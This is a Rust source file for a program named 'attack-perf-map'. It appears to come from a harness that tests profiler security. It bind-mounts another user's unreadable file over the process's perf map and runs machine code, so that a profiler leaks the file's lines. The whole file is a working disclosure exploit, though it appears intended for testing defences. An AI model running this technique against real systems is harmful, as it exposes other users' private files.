//! A file of another user mounted where a process names the code that it makes: whoever reads it
//! for this process shows its lines to whoever may see the process's functions.

use anyhow::{Context, bail};

use super::{Program, code_page, enter_namespaces, mount, unmount};
use crate::options::Options;
use crate::sys;
use crate::truth::Truth;

pub(super) const PROGRAM: Program = Program {
    name: "attack-perf-map",
    about: "mounts the file --path over its perf map and runs code at 0x1000000000 for --seconds",
    run,
};

/// Where the code lies: the other file's lines have to name it.
const CODE_AT: usize = 0x10_0000_0000;
/// mov rax, rdi; 1: imul rax, rax, 0x12345; dec rdi; jnz 1b; ret
const CODE: [u8; 16] = [
    0x48, 0x89, 0xf8, 0x48, 0x69, 0xc0, 0x45, 0x23, 0x01, 0x00, 0x48, 0xff, 0xcf, 0x75, 0xf4, 0xc3,
];

fn run(options: &Options, mut truth: Truth) -> anyhow::Result<Truth> {
    if !cfg!(target_arch = "x86_64") {
        bail!("the code is x86_64 only");
    }
    let secret = options
        .path
        .as_ref()
        .context("--path is the file to mount")?;
    let secret = secret.to_str().context("a path that is no text")?;
    if std::fs::read(secret).is_ok() {
        bail!("{secret} can be read without an attack");
    }
    let own = format!("/tmp/perf-{}.map", std::process::id());
    std::fs::write(&own, "")
        .with_context(|| format!("writing {own}: remove it if an earlier process left it there"))?;
    enter_namespaces()?;
    mount(secret, &own, "", libc::MS_BIND, "")?;
    let page = code_page(CODE_AT, &CODE)?;
    // SAFETY: the page holds a whole function with this signature.
    let code: extern "C" fn(u64) -> u64 = unsafe { std::mem::transmute(page) };
    let until_ns = sys::monotonic_ns() + options.duration_ns();
    let mut calls = 0u64;
    while sys::monotonic_ns() < until_ns {
        std::hint::black_box(code(1_000_000));
        calls += 1;
    }
    // Else the file could not be removed, and would be in the way of who has this number next.
    unmount(&own)?;
    std::fs::remove_file(&own).with_context(|| format!("removing {own}"))?;
    truth.set("calls", calls);
    Ok(truth)
}
